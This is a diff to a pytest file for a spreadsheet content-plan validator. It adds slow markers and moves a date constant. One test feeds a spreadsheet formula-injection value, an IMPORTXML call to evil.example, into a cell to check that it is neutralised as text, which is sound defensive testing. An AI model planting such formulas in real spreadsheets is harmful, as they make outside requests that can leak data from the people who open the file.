@@ -12,8 +12,8 @@ from click.testing import CliRunner
 
 from sheets_plan import LocalBackend, provision
 from sheets_plan.cli.commands import cli
+from .constants import AS_OF_TEXT as AS_OF
 
-AS_OF = "2026-03-16"
 GOOD_ROW = {"A": dt.datetime(2026, 3, 2), "B": dt.time(10, 0), "C": "Instagram", "D": "post", "E": "Product",
             "F": "Seasonal latte", "G": "Caption", "H": "Anna", "I": "published",
             "J": "https://instagram.com/p/1", "K": 10, "L": 2, "M": 3, "N": 1, "O": 500, "P": 900}
@@ -62,6 +62,7 @@ def cell(ref, value, sheet="Plan", text=False):
     return fn
 
 
+@pytest.mark.slow
 def test_the_base_workbook_is_clean(workbook):
     result = validate(workbook)
     assert result.exit_code == 0, result.output
@@ -119,6 +120,7 @@ FLAGGED = [  # (id, edit, rule, cell)
 ]
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("name, fn, rule, ref", FLAGGED, ids=[c[0] for c in FLAGGED])
 def test_bad_cell_gives_a_flag(workbook, name, fn, rule, ref):
     edit(workbook, fn)
@@ -142,6 +144,7 @@ ACCEPTED = [  # what looks odd but is a valid value: no flag at all
 ]
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("name, fn", ACCEPTED, ids=[c[0] for c in ACCEPTED])
 def test_odd_but_valid_input_is_accepted(workbook, name, fn):
     edit(workbook, fn)
@@ -151,6 +154,7 @@ def test_odd_but_valid_input_is_accepted(workbook, name, fn):
         {f["rule"] for f in flags} == {"link"}, flags  # the copied row repeats the link
 
 
+@pytest.mark.slow
 def test_injected_formula_is_written_back_as_text(workbook):
     edit(workbook, cell("G2", None))
     edit(workbook, cell("F2", '=IMPORTXML("http://evil.example","//a")', text=True))
@@ -211,6 +215,7 @@ def test_a_bad_as_of_date(workbook):
     assert result.exit_code == 2 and "Traceback" not in result.output
 
 
+@pytest.mark.slow
 def test_fifty_thousand_rows(workbook):
     wb = openpyxl.load_workbook(workbook)
     ws = wb["Plan"]
@@ -230,6 +235,7 @@ def test_fifty_thousand_rows(workbook):
     assert sum(f["rule"] == "types" for f in report["flags"]) == 50
 
 
+@pytest.mark.slow
 def test_an_overwritten_formula_is_flagged_once_and_restored(workbook):
     edit(workbook, cell("R2", 42))
     first = json.loads(validate(workbook).stdout)["flags"]
@@ -238,6 +244,7 @@ def test_an_overwritten_formula_is_flagged_once_and_restored(workbook):
     assert validate(workbook).exit_code == 0
 
 
+@pytest.mark.slow
 def test_a_number_outside_the_date_range_is_kept_as_typed(workbook):
     edit(workbook, cell("A2", 123456789))
     validate(workbook)                                   # writes the Check and Log tabs
